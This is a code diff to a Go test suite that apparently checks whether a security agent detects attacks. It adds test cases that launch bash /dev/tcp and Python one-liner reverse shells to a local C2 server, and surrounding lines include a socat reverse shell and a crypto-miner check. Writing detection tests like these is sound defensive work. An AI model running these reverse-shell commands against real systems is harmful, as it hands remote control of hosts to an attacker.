@@ -90,6 +90,30 @@ var controlAttacks = []attack{
 			pid := run(t, exec.Command("bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%s/%d; echo %s >&3", remoteHost(t), port, m)))
 			return result{match: m, pid: pid, name: "bash", exe: exe, check: connectedTo(fmt.Sprintf("%s:%d", remoteHost(t), port))}
 		}},
+	{"Reverse shell", "Critical", "", "bash -c 'exec bash -i >& /dev/tcp/HOST/PORT 0>&1' to a C2 in the suite's network namespace",
+		func(t *testing.T, ag *agent, m string) result {
+			bash, exe := hostTool(t, "bash")
+			srv := newC2()
+			port := serveRemote(t, 0, srv.handle(m))
+			pid := run(t, exec.Command(bash, "-c", fmt.Sprintf("exec %s -i >& /dev/tcp/%s/%d 0>&1", bash, remoteHost(t), port)))
+			if !srv.answered(m + "-42") {
+				t.Errorf("the C2 got no answer from the shell")
+			}
+			return reverseShell(remoteHost(t), port, pid, "bash", exe)
+		}},
+	{"Reverse shell", "Critical", "python", "python3 one-line reverse shell (socket, dup2 onto 0, 1 and 2, exec sh -i) to a C2 in the suite's network namespace",
+		func(t *testing.T, ag *agent, m string) result {
+			python, _ := hostTool(t, "python3")
+			srv := newC2()
+			port := serveRemote(t, 0, srv.handle(m))
+			oneLiner := fmt.Sprintf(`import socket,os;s=socket.socket();s.connect(("%s",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])`,
+				remoteHost(t), port)
+			pid := run(t, exec.Command(python, "-c", oneLiner))
+			if !srv.answered(m + "-42") {
+				t.Errorf("the C2 got no answer from the shell")
+			}
+			return reverseShell(remoteHost(t), port, pid, "sh", realpath(t, "/bin/sh"))
+		}},
 	{"Netcat or socat executing a command", "Warning", "", "socat TCP4:HOST:PORT EXEC:/bin/sh, a reverse shell to a C2 in the suite's network namespace",
 		func(t *testing.T, ag *agent, m string) result {
 			socat, exe := hostTool(t, "socat")
@@ -141,4 +165,13 @@ func mine(t *testing.T, m string) result {
 		t.Error("the pool saw no login")
 	}
 	return result{match: m, pid: pid, name: "xmrig", exe: built.xmrig}
+}
+
+// reverseShell is the alert of a shell started on a socket to host:port:
+// the C2's address and port are what the alert must name. The shells it
+// starts in turn (bash -i runs ~/.bashrc, which may run scripts) are on
+// the socket too and raise the rule again: the pid picks the first.
+func reverseShell(host string, port, pid int, name, exe string) result {
+	return result{match: fmt.Sprintf("remote=%s port=%d ", host, port), narrow: fmt.Sprintf(" pid=%d ", pid), pid: pid, name: name, exe: exe,
+		fields: map[string]string{"proc.stdin.rip": host, "proc.stdin.rport": strconv.Itoa(port)}}
 }
